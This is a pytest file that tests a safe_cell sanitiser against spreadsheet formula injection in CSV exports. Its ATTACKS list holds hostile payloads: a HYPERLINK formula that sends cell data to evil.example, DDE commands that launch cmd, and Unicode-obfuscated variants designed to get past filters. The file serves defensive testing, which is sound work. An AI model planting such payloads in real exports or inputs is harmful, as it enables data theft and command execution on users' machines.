"""Exports are safe to open: no text cell can start a formula in a spreadsheet (OWASP)."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest

from shared.core.spreadsheet import safe_cell

ATTACKS = [
    '=HYPERLINK("https://evil.example/?q="&A1,"Klicka här")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",  # after spaces
    "\u00a0\u2003=1+1",  # no-break and em spaces
    "\u200b=1+1",  # a zero-width space first
    "\u034f=1+1",  # COMBINING GRAPHEME JOINER, default-ignorable (issue 22)
    "\u034f\u200d\ufe0f @SUM(1)",  # several ignorables and a space
    "\u202e=1+1",  # a bidi override first
    "\U000e0001=1+1",  # a tag character
    "\n=1+1",
    "\uff1d1+1",  # full-width equals
    "\ufe621+1",  # small plus
    "\uff20SUM(A1)",  # full-width commercial at
    "\uff0d1+1",  # full-width hyphen-minus
]


def _first_visible(cell: str) -> str:
    text = unicodedata.normalize("NFKC", cell)
    while text[:1].isspace() or (text[:1] and unicodedata.category(text[0]) in ("Cf", "Mn")):
        text = text[1:]
    return text[:1]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_that_would_start_a_formula_reads_as_text(attack: str) -> None:
    # Given a comment that would start a formula, written to a CSV and read back as a sheet does
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerow(["2026-03-13", safe_cell(attack)])
    (_, cell), *_ = csv.reader(io.StringIO(buffer.getvalue()), delimiter=";")
    # Then the cell begins with the quote that makes it text, and keeps the comment after it
    assert cell == "'" + attack
    assert _first_visible(cell) == "'"


@pytest.mark.parametrize(
    "text",
    [
        "Bra bemötande, tack!",
        "Väntetid 45 min; inte bra",
        "E-post: [e-post]",
        "Ring 1+1 gånger",  # an operator inside the text is not a formula start
        "'=redan skyddad",
        "",
        "a=b",
    ],
)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("attack", ATTACKS)
def test_quoting_twice_changes_nothing_more(attack: str) -> None:
    assert safe_cell(safe_cell(attack)) == safe_cell(attack)
